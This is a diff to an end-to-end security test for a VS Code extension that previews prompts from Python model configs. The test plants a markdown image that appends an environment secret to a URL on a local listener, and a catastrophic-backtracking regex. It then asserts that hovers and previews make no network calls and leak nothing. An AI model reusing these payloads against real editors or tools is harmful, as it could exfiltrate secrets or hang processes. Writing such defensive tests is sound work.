@@ -20,58 +20,75 @@ export async function hostileWindow(folder, settings) {
   await new Promise((resolve) => listener.listen(0, '127.0.0.1', resolve));
   const host = `https://127.0.0.1:${listener.address().port}`;
   writeHostileFiles(folder, host);
+  writeControl(path.join(folder, '..', 'control'), host);
   const reached = (workbench) => ({ calls, requests: workbench.requests.filter((url) => isForeign(url, workbench.page.url())) });
   return {
     folder,
     file: 'hostile/leak.py',
-    settings: { ...settings, 'json.schemas': [{ fileMatch: ['control.json'], schema: { properties: { control: { markdownDescription: `![a](${host}/control)` } } } }] },
+    settings,
+    development: path.join(folder, '..', 'control'),
     environment: { PREFLIGHT_SECRET: secret },
     steps: stepsFor(Boolean(settings['security.workspace.trust.enabled']), reached),
     close: () => new Promise((resolve) => listener.close(resolve)),
   };
 }
 
-/** Beside the workbench's own server there are the webviews' files, which a service worker of the workbench serves. */
+/** The workbench itself asks its server, a service worker of its own for the files of webviews, and the marketplace about extensions. */
 function isForeign(url, own) {
   const { protocol, host } = new URL(url);
-  return protocol.startsWith('http') && host !== new URL(own).host && !host.endsWith('.vscode-resource.vscode-cdn.net');
+  return protocol.startsWith('http') && host !== new URL(own).host && host !== 'open-vsx.org' && !host.endsWith('.vscode-resource.vscode-cdn.net');
 }
 
 function writeHostileFiles(folder, host) {
-  const image = `'![a](${host}/leak?k=' + os.environ.get('PREFLIGHT_SECRET', '') + ')'`;
+  const image = `'![a](${host}/name)'`;
+  const leak = `'![a](${host}/leak?k=' + os.environ.get('PREFLIGHT_SECRET', '') + ')'`;
   const files = {
     'leak.py': `import os
-leak = ${image}
+image = ${image}
+leak = ${leak}
 models = [dict(
     type='HuggingFaceCausalLM',
-    abbr=leak,
+    abbr=name,
     meta_template=dict(
         reserved_roles=[dict(role='SYSTEM')],
-        round=[dict(role='HUMAN'), dict(role=leak)],
+        round=[dict(role='HUMAN'), dict(role=name)],
     ),
-)]
-leak_datasets = [dict(
-    abbr=leak,
+) for name in [leak, image]]
+image_datasets = [dict(
+    abbr=name,
     reader_cfg=dict(input_columns=['q'], output_column='a'),
     infer_cfg=dict(
         prompt_template=dict(
             type='PromptTemplate',
-            template=dict(round=[dict(role='HUMAN', prompt=leak)]),
+            template=dict(round=[dict(role='HUMAN', prompt=name)]),
         ),
         retriever=dict(type='ZeroRetriever'),
         inferencer=dict(type='GenInferencer'),
     ),
-)]
-datasets = leak_datasets
+) for name in [image, leak]]
+datasets = image_datasets
 `,
     'bomb.py': `import re
 models = [dict(type='x', abbr='bomb')]
 found = re.search(r'^(\\d{1,12}[,.]?){1,12}$', '1' * 40 + 'x')
 `,
-    'control.json': '{ "control": 1 }\n',
+    'control.txt': 'control\n',
   };
-  mkdirSync(path.join(folder, 'hostile'));
-  for (const [name, text] of Object.entries(files)) writeFileSync(path.join(folder, 'hostile', name), text);
+  write(path.join(folder, 'hostile'), files);
+}
+
+/** An extension whose hovers have an image. */
+function writeControl(folder, host) {
+  const manifest = { name: 'control', publisher: 'control', version: '0.0.1', engines: { vscode: '^1.100.0' }, main: './main.js', activationEvents: ['onLanguage:plaintext'], capabilities: { untrustedWorkspaces: { supported: true } } };
+  const main = `const { Hover, languages, MarkdownString } = require('vscode');
+exports.activate = () => languages.registerHoverProvider('plaintext', { provideHover: () => new Hover(new MarkdownString('![a](${host}/control)')) });
+`;
+  write(folder, { 'package.json': JSON.stringify(manifest), 'main.js': main });
+}
+
+function write(folder, files) {
+  mkdirSync(folder);
+  for (const [name, text] of Object.entries(files)) writeFileSync(path.join(folder, name), text);
 }
 
 function stepsFor(restricted, reached) {
@@ -84,7 +101,7 @@ function stepsFor(restricted, reached) {
 
     'hovers, the preview and completions ask the network for nothing': async (workbench, { assert, screenshot }) => {
       await workbench.command('Prompt Preflight: Preview Prompt');
-      await workbench.preview.locator('.turn', { hasText: 'leak?k=' }).first().waitFor(limit);
+      await workbench.preview.locator('.turn', { hasText: '/name)' }).first().waitFor(limit);
       for (const text of ['HUMAN', 'SYSTEM', 'reserved_roles', 'abbr', 'HuggingFaceCausalLM']) {
         const hover = await workbench.hover(text);
         assert.equal(await hover.locator('img, a[data-href^="command:"]').count(), 0, `hover of ${text}`);
@@ -93,6 +110,13 @@ function stepsFor(restricted, reached) {
       await workbench.clickBehind('reserved_roles');
       await workbench.page.keyboard.press('Control+Space');
       assert.deepEqual(reached(workbench), { calls: 0, requests: [] });
+    },
+
+    'the value of an environment variable is handed to no config': async (workbench, { assert }) => {
+      // The page names all datasets and models, and the hover all models with the role.
+      const page = await workbench.preview.locator('prompt-preview').evaluate((element) => element.shadowRoot.textContent);
+      const hover = await (await workbench.hover('HUMAN')).innerText();
+      for (const text of [page, hover]) assert.ok(!text.includes(secret), text);
     },
 
     'a message of the page opens documents only': async (workbench, { assert }) => {
@@ -125,7 +149,7 @@ function stepsFor(restricted, reached) {
 
     // Last, since the listener is called: without it nothing would tell a quiet network from a deaf listener.
     'an image in the hover of another extension does reach the listener': async (workbench, { assert }) => {
-      await workbench.open('control.json');
+      await workbench.open('control.txt');
       await (await workbench.hover('control')).locator('img').waitFor(limit);
       await workbench.page.waitForTimeout(300);
       const { calls, requests } = reached(workbench);
